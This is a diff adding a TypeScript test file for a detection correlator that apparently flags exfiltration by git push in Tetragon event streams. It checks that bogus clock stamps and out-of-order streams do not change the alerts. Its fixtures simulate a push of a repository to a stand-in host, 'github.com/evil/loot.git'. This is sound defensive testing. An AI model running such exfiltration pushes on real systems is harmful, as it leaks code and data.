@@ -1,0 +1,97 @@
+/**
+ * Event times that do not march with the stream: a bogus timestamp far in the future on one event of a
+ * node, and streams that arrive out of order (a scan over scenario files whose times interleave). Neither
+ * may change what is detected, raise a second alert for one push, or depend on how the stream is cut into
+ * batches (the TTL sweep runs between batches).
+ */
+import { readdirSync, readFileSync } from 'node:fs';
+import { describe, expect, it } from 'vitest';
+import { normalizeTetragonJson } from '../../../src/formats/tetragon/from-json.js';
+import type { Alert } from '../../../src/model/alert.js';
+import type { NormalizedEvent } from '../../../src/model/normalized-event.js';
+import { makeCorrelator, run, Scenario } from './builder.js';
+
+const YEAR_2999 = Date.parse('2999-12-31T23:59:59Z');
+const BATCHES = [1, 7, 64, 512, Number.MAX_SAFE_INTEGER];
+
+/** What identifies an alert's finding (its id hashes the same things plus times). */
+const finding = (a: Alert) => [a.rule, a.severity, a.container.id, a.process.execId, a.push.destination].join(' ');
+/** The same for a scenario built anew (its container and exec ids differ from run to run). */
+const shape = (a: Alert) => [a.rule, a.severity, a.push.tool, a.push.destination, a.process.binary].join(' ');
+
+/** A git push whose process then reads 600 pack files (a push's own reads), 1 ms apart. */
+function pushThenReads(bogus: 'none' | 'before' | 'during'): NormalizedEvent[] {
+  const s = new Scenario();
+  const c = s.container();
+  const other = s.container();
+  if (bogus === 'before') s.exec(other, '/bin/date', '', { parent: s.init(other), at: YEAR_2999 });
+  const git = s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git main', { parent: s.init(c) });
+  for (let i = 0; i < 600; i++) {
+    if (bogus === 'during' && i === 300) s.exec(other, '/bin/date', '', { parent: s.init(other), at: YEAR_2999 });
+    s.read(git, `/work/repo/.git/objects/pack/p-${i}.pack`, 256 * 1024).wait(1);
+  }
+  return s.events;
+}
+
+describe('clock trouble and disorder in the correlator', () => {
+  it('one far-future timestamp on a node changes no alert, however the stream is batched', () => {
+    const baseline = run(pushThenReads('none')).alerts.map(shape);
+    expect(baseline).toHaveLength(1);
+    for (const bogus of ['before', 'during'] as const) {
+      for (const batchSize of BATCHES) {
+        const alerts = run(pushThenReads(bogus), { batchSize }).alerts.map(shape);
+        expect(alerts, `${bogus}, batches of ${batchSize}`).toEqual(baseline);
+      }
+    }
+  });
+
+  it("live: a first event stamped far from the wall clock does not become the node's clock", () => {
+    const wallMs = Date.now();
+    for (const bogusMs of [YEAR_2999, 0]) {
+      const s = new Scenario({ startMs: wallMs - 5_000 });
+      const other = s.container();
+      s.exec(other, '/bin/date', '', { parent: s.init(other), at: bogusMs });
+      const c = s.container();
+      const git = s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git main', { parent: s.init(c) });
+      for (let i = 0; i < 600; i++) s.read(git, `/work/repo/.git/objects/pack/p-${i}.pack`, 256 * 1024).wait(1);
+      const { correlator } = makeCorrelator();
+      correlator.advance(wallMs);
+      const atIngest = correlator.ingest(s.events);
+      // Judged on the wall clock once settle and lateness are over, not held until the stream ends.
+      const onTime = correlator.advance(wallMs + 120_000);
+      const atEnd = correlator.flush();
+      expect(atIngest.map(shape), `bogus ${bogusMs}`).toEqual([]);
+      expect(onTime.map(shape), `bogus ${bogusMs}`).toEqual(run(pushThenReads('none')).alerts.map(shape));
+      expect(atEnd).toEqual([]);
+    }
+  });
+
+  it('the bundled scenarios run back to back, out of time order: the alerts of each run alone, for any batching', () => {
+    const dir = new URL('../../../examples/scenarios/generated/', import.meta.url);
+    const files: NormalizedEvent[][] = [];
+    for (const name of readdirSync(dir)
+      .filter((n) => n.endsWith('.tetragon.jsonl'))
+      .sort()) {
+      const events: NormalizedEvent[] = [];
+      for (const line of readFileSync(new URL(name, dir), 'utf8').split('\n')) {
+        if (line.trim() === '') continue;
+        const e = normalizeTetragonJson(JSON.parse(line), { node: 'node-a' });
+        if (e !== null) events.push(e);
+      }
+      files.push(events);
+    }
+    const withReads = (a: Alert) => `${finding(a)} ${a.reads.bytes} ${a.reads.files}`;
+    const alone = files.flatMap((events) => run(events).alerts.map(withReads)).sort();
+    expect(alone.length).toBeGreaterThan(10);
+
+    // Every file starts at the same time, some run for hours: back to back, the stream jumps back in time.
+    const all = files.flat();
+    let backwards = 0;
+    for (let i = 1; i < all.length; i++) if (all[i]!.timeMs < all[i - 1]!.timeMs - 3_600_000) backwards++;
+    expect(backwards).toBeGreaterThan(0);
+    for (const batchSize of BATCHES) {
+      const together = run(all, { batchSize }).alerts.map(withReads).sort();
+      expect(together, `batches of ${batchSize}`).toEqual(alone);
+    }
+  });
+});
